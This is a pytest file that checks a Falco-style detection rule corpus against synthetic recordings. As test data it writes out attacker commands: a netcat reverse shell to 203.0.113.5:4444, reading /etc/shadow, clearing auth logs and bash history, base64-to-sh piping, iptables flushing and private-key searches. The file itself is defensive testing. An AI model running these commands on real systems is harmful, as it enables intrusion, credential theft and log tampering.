"""The Falco-style corpus (tests/rules/corpus/falco): it validates cleanly, and each of its
rules fires on a recording of what it is about and stays quiet on a look-alike, through
`spyderctl rules test` (in-process), site extensions (append/override) included."""

from __future__ import annotations

import importlib.util
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from spyderd.ctl.cli import main as spyderctl
from spyderd.rules import load_rules

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO / "tests/rules/corpus/falco"
_spec = importlib.util.spec_from_file_location(
    "build_examples", REPO / "tests/rules/examples/build_examples.py"
)
assert _spec is not None and _spec.loader is not None
ex = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(ex)
Rec = ex.Rec
S = ex.S
O_WRONLY, O_CREAT, O_TRUNC = ex.O_WRONLY, ex.O_CREAT, ex.O_TRUNC

Scenario = Callable[[], tuple["ex.Rec", "ex.Rec"]]
SCENARIOS: dict[str, Scenario] = {}


def scenario(rule: str) -> Callable[[Scenario], Scenario]:
    def register(fn: Scenario) -> Scenario:
        SCENARIOS[rule] = fn
        return fn

    return register


def pair(rule: str, pos_about: str, neg_about: str) -> tuple[ex.Rec, ex.Rec]:
    return Rec(rule, True, pos_about), Rec(rule, False, neg_about)


@scenario("Terminal shell in container")
def _terminal_shell():
    pos, neg = pair("Terminal shell in container", "bash with a pty in a container", "no tty")
    pos.spawn(ex.container_shell(pos, tty="pts/0"), "/bin/bash", ["bash"])
    neg.spawn(ex.container_shell(neg), "/bin/bash", ["bash", "-c", "true"])
    return pos, neg


@scenario("Write below etc")
def _write_etc():
    pos, neg = pair("Write below etc", "cp writes /etc/hosts", "nano edits /etc/motd (site row)")
    pos.file(pos.spawn(ex.login_shell(pos), "/bin/cp", ["cp", "x", "/etc/hosts"]), "open",
             "/etc/hosts", flags=O_WRONLY | O_CREAT | O_TRUNC)  # fmt: skip
    nano = neg.spawn(ex.login_shell(neg), "/bin/nano", ["nano", "/etc/motd"])
    neg.file(nano, "open", "/etc/motd", flags=O_WRONLY | O_TRUNC)
    snap = neg.spawn(ex.login_shell(neg), "/usr/bin/snap", ["snap", "install", "x"])
    neg.file(snap, "open", "/etc/apt/x", flags=O_WRONLY)  # package_tools appended by site
    neg.file(snap, "open", "/etcetera/x", flags=O_WRONLY)  # pmatch is per path component
    return pos, neg


@scenario("Read sensitive file untrusted")
def _read_sensitive():
    pos, neg = pair("Read sensitive file untrusted", "cat /etc/shadow", "sshd reads it")
    pos.file(pos.spawn(ex.login_shell(pos), "/bin/cat", ["cat", "/etc/shadow"]), "open",
             "/etc/shadow", flags=0)  # fmt: skip
    sshd = neg.running("/usr/sbin/sshd", ["sshd"])
    neg.file(sshd, "open", "/etc/shadow", flags=0)
    return pos, neg


@scenario("Netcat remote code execution")
def _netcat():
    pos, neg = pair("Netcat remote code execution", "nc -e /bin/sh", "nc -z port scan")
    pos.spawn(ex.login_shell(pos), "/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])
    neg.spawn(ex.login_shell(neg), "/bin/nc", ["nc", "-z", "-e-not", "10.0.0.1", "22"])
    return pos, neg


@scenario("Clear log activities")
def _clear_logs():
    pos, neg = pair("Clear log activities", "log truncated", "log appended to")
    sh = pos.spawn(ex.login_shell(pos), "/bin/sh", ["sh", "-c", ": > /var/log/auth.log"])
    pos.file(sh, "open", "/var/log/auth.log", flags=O_WRONLY | O_TRUNC)
    sh = neg.spawn(ex.login_shell(neg), "/bin/sh", ["sh", "-c", "echo x >> /var/log/a.log"])
    neg.file(sh, "open", "/var/log/a.log", flags=O_WRONLY | ex.O_APPEND)
    return pos, neg


@scenario("Delete bash history")
def _history():
    pos, neg = pair("Delete bash history", "rm ~/.bash_history", "rm of another file")
    rm = pos.spawn(ex.login_shell(pos), "/bin/rm", ["rm", "/root/.BASH_HISTORY"])
    pos.file(rm, "unlink", "/root/.BASH_HISTORY")
    rm = neg.spawn(ex.login_shell(neg), "/bin/rm", ["rm", "/root/history.txt"])
    neg.file(rm, "unlink", "/root/history.txt")
    return pos, neg


@scenario("Set setuid or setgid bit")
def _setuid():
    pos, neg = pair("Set setuid or setgid bit", "chmod 4755", "chmod 755")
    pos.file(pos.spawn(ex.login_shell(pos), "/bin/chmod", ["chmod", "u+s", "/tmp/x"]), "chmod",
             "/tmp/x", mode=0o104755)  # fmt: skip
    neg.file(neg.spawn(ex.login_shell(neg), "/bin/chmod", ["chmod", "755", "/tmp/x"]), "chmod",
             "/tmp/x", mode=0o100755)  # fmt: skip
    return pos, neg


@scenario("PTRACE attached to process")
def _ptrace():
    pos, neg = pair("PTRACE attached to process", "strace -p seizes", "gdb by root (excepted)")
    strace = pos.spawn(ex.login_shell(pos), "/usr/bin/strace", ["strace", "-p", "4242"])
    pos.kernel(strace, "ptrace", request=0x4206, target_pid=4242)
    gdb = neg.spawn(ex.login_shell(neg), "/usr/bin/gdb", ["gdb", "-p", "4242"])
    neg.kernel(gdb, "ptrace", request=16, target_pid=4242)
    neg.kernel(gdb, "ptrace", request=2, target_pid=4242)
    return pos, neg


@scenario("Create symlink over sensitive files")
def _symlink():
    pos, neg = pair("Create symlink over sensitive files", "ln -s /etc/shadow", "link to /tmp")
    ln = pos.spawn(ex.login_shell(pos), "/bin/ln", ["ln", "-s", "/etc/shadow", "/tmp/s"])
    pos.file(ln, "symlink", "/etc/shadow", path2="/tmp/s")
    ln = neg.spawn(ex.login_shell(neg), "/bin/ln", ["ln", "-s", "/tmp/a", "/root/b"])
    neg.file(ln, "symlink", "/tmp/a", path2="/root/b")  # the link is in /root, not to it
    return pos, neg


@scenario("Create hardlink over sensitive files")
def _hardlink():
    pos, neg = pair("Create hardlink over sensitive files", "ln /etc/shadow", "ln of a log")
    ln = pos.spawn(ex.login_shell(pos), "/bin/ln", ["ln", "/etc/shadow", "/tmp/h"])
    pos.file(ln, "link", "/etc/shadow", path2="/tmp/h")
    ln = neg.spawn(ex.login_shell(neg), "/bin/ln", ["ln", "/var/log/a", "/etc/shadow"])
    neg.file(ln, "link", "/var/log/a", path2="/etc/shadow")
    return pos, neg


@scenario("Outbound connection to C2 port")
def _c2():
    pos, neg = pair("Outbound connection to C2 port", "connect to :4444", "lab network")
    pos.connect(pos.spawn(ex.login_shell(pos), "/usr/bin/python3", ["python3", "x.py"]),
                "203.0.113.5", 4444)  # fmt: skip
    py = neg.spawn(ex.login_shell(neg), "/usr/bin/python3", ["python3", "x.py"])
    neg.connect(py, "192.0.2.10", 4444)
    neg.connect(py, "203.0.113.5", 4444, result=-111)
    return pos, neg


@scenario("Shell history disabled")
def _histfile():
    pos, neg = pair("Shell history disabled", "export HISTFILE=/dev/null", "echo $HISTFILE")
    pos.spawn(ex.login_shell(pos), "/bin/bash", ["bash", "-c", "export HISTFILE=/DEV/NULL"])
    neg.spawn(ex.login_shell(neg), "/bin/bash", ["bash", "-c", "echo $HISTFILE"])
    return pos, neg


@scenario("Base64 decoding below a shell")
def _base64():
    pos, neg = pair("Base64 decoding below a shell", "sh runs base64 -D", "base64 encodes")
    sh = pos.spawn(ex.login_shell(pos), "/bin/sh", ["sh", "-c", "echo x | base64 -D | sh"])
    pos.spawn(sh, "/usr/bin/base64", ["base64", "-D"])
    sh = neg.spawn(ex.login_shell(neg), "/bin/sh", ["sh", "-c", "base64 f"])
    neg.spawn(sh, "/usr/bin/base64", ["base64", "--wrap=0", "-decoy"])
    return pos, neg


@scenario("Modify shell configuration file")
def _shell_config():
    pos, neg = pair("Modify shell configuration file", "echo >> .bashrc", "dpkg installs it")
    sh = pos.spawn(ex.login_shell(pos), "/bin/sh", ["sh", "-c", "echo x >> ~/.bashrc"])
    pos.file(sh, "open", "/root/.bashrc", flags=O_WRONLY | ex.O_APPEND)
    neg.file(ex.apt_dpkg(neg), "rename", "/etc/skel/.bashrc.dpkg-new", path2="/etc/skel/.bashrc")
    return pos, neg


@scenario("Schedule cron jobs")
def _cron():
    pos, neg = pair("Schedule cron jobs", "file in /etc/cron.d", "crontab -l")
    tee = pos.spawn(ex.login_shell(pos), "/usr/bin/tee", ["tee", "/etc/cron.d/x"])
    pos.file(tee, "open", "/etc/cron.d/x", flags=O_WRONLY | O_CREAT)
    neg.spawn(ex.login_shell(neg), "/usr/bin/crontab", ["crontab", "-l"])
    return pos, neg


@scenario("Linux kernel module injection")
def _module():
    pos, neg = pair("Linux kernel module injection", "finit_module", "delete_module")
    pos.kernel(pos.spawn(ex.login_shell(pos), "/sbin/insmod", ["insmod", "rk.ko"]),
               "finit_module", name="rk")  # fmt: skip
    neg.kernel(neg.spawn(ex.login_shell(neg), "/sbin/rmmod", ["rmmod", "rk"]),
               "delete_module", name="rk")  # fmt: skip
    return pos, neg


@scenario("Mount launched in container")
def _mount():
    pos, neg = pair("Mount launched in container", "mount in a container", "mount on the host")
    mnt = pos.spawn(ex.container_shell(pos), "/bin/mount", ["mount", "/dev/sda1", "/mnt"])
    pos.kernel(mnt, "mount", source="/dev/sda1", name="/mnt", fstype="ext4")
    mnt = neg.spawn(ex.login_shell(neg), "/bin/mount", ["mount", "/dev/sdb1", "/mnt"])
    neg.kernel(mnt, "mount", source="/dev/sdb1", name="/mnt", fstype="ext4")
    return pos, neg


@scenario("SIGKILL from a web server's child")
def _sigkill():
    pos, neg = pair("SIGKILL from a web server's child", "kill -9 below nginx", "kill -15")
    nginx = pos.running("/usr/sbin/nginx", ["nginx: worker process"], uid=33)
    sh = pos.spawn(nginx, "/bin/sh", ["sh", "-c", "kill -9 1"])
    pos.kernel(sh, "kill", request=9, target_pid=1)
    nginx = neg.running("/usr/sbin/nginx", ["nginx: worker process"], uid=33)
    sh = neg.spawn(nginx, "/bin/sh", ["sh", "-c", "kill 1"])
    neg.kernel(sh, "kill", request=15, target_pid=1)
    return pos, neg


@scenario("Password file truncated on open")
def _passwd():
    pos, neg = pair("Password file truncated on open", "cp over /etc/passwd", "useradd")
    cp = pos.spawn(ex.login_shell(pos), "/bin/cp", ["cp", "p", "/etc/passwd"])
    pos.file(cp, "open", "/etc/passwd", flags=O_WRONLY | O_TRUNC)
    ua = neg.spawn(ex.login_shell(neg), "/usr/sbin/useradd", ["useradd", "bob"])
    neg.file(ua, "open", "/etc/passwd", flags=O_WRONLY | O_TRUNC)
    return pos, neg


@scenario("Interpreter with inline code below a web server")
def _inline():
    pos, neg = pair("Interpreter with inline code below a web server", "lighttpd > python3 -c",
                    "python3 script below lighttpd")  # fmt: skip
    web = pos.running("/usr/sbin/lighttpd", ["lighttpd", "-D"], uid=33)
    pos.spawn(web, "/usr/bin/python3.11", ["python3.11", "-c", "import os"])
    web = neg.running("/usr/sbin/lighttpd", ["lighttpd", "-D"], uid=33)
    neg.spawn(web, "/usr/bin/python3.11", ["python3.11", "/srv/app.py"])
    return pos, neg


@scenario("Network scanner in container")
def _scanner():
    pos, neg = pair("Network scanner in container", "NMAP in a container", "nmap on the host")
    pos.spawn(ex.container_shell(pos), "/usr/bin/NMAP", ["NMAP", "-sS", "10.0.0.0/24"])
    neg.spawn(ex.login_shell(neg), "/usr/bin/nmap", ["nmap", "-sS", "10.0.0.0/24"])
    return pos, neg


@scenario("Search for private keys")
def _keys():
    pos, neg = pair("Search for private keys", "find -name id_rsa", "find -name '*.log'")
    pos.spawn(ex.login_shell(pos), "/usr/bin/find", ["find", "/", "-name", "ID_RSA*"])
    neg.spawn(ex.login_shell(neg), "/usr/bin/find", ["find", "/", "-name", "*.log"])
    return pos, neg


@scenario("Firewall rules flushed")
def _firewall():
    pos, neg = pair("Firewall rules flushed", "iptables -F", "iptables -L")
    pos.spawn(ex.login_shell(pos), "/usr/sbin/iptables", ["iptables", "-F"])
    neg.spawn(ex.login_shell(neg), "/usr/sbin/iptables", ["iptables", "-L", "-n"])
    return pos, neg


@scenario("Sudo to a root shell")
def _sudo():
    pos, neg = pair("Sudo to a root shell", "sudo -i", "sudo -i below ansible (site append)")
    pos.spawn(ex.login_shell(pos, uid=1000), "/usr/bin/sudo", ["sudo", "-i"])
    ansible = neg.running("/usr/bin/ansible-playbook", ["ansible-playbook", "site.yml"])
    neg.spawn(ansible, "/usr/bin/sudo", ["sudo", "-i"])
    return pos, neg


def test_corpus_validates_cleanly() -> None:
    rs = load_rules([CORPUS])
    assert rs.warnings == []
    assert len(rs.rules) >= 20
    assert {r.name for r in rs.rules} == set(SCENARIOS)
    assert rs.get("Netcat remote code execution").severity == "high"  # override: replace


@pytest.mark.parametrize("rule", sorted(SCENARIOS))
def test_corpus_rule_on_its_recordings(rule: str, tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    pos, neg = SCENARIOS[rule]()
    for rec, want in ((pos, 0), (neg, 1)):
        path = tmp_path / f"{rec.header['expect']}.jsonl"
        path.write_text("".join(json.dumps(line) + "\n" for line in rec.lines()))
        code = spyderctl(["rules", "test", str(CORPUS), "--events", str(path), "--rule", rule])
        out = capsys.readouterr().out
        assert code == want, f"{rule}: {rec.header['about']}\n{out}"
